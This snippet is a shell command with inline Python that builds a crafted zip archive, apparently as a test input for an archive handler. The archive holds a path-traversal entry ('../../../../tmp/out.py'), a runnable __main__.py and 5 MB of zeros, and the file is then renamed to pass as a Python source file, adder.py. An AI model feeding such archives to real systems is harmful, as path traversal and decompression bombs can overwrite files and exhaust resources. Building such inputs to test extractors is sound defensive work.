python3 - <<'END'
import zipfile
with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("../../../../tmp/out.py", "print(0)")
    archive.writestr("__main__.py", "print(0)")
    archive.writestr("zeros", bytes(5_000_000))
END
mv bomb.zip adder.py
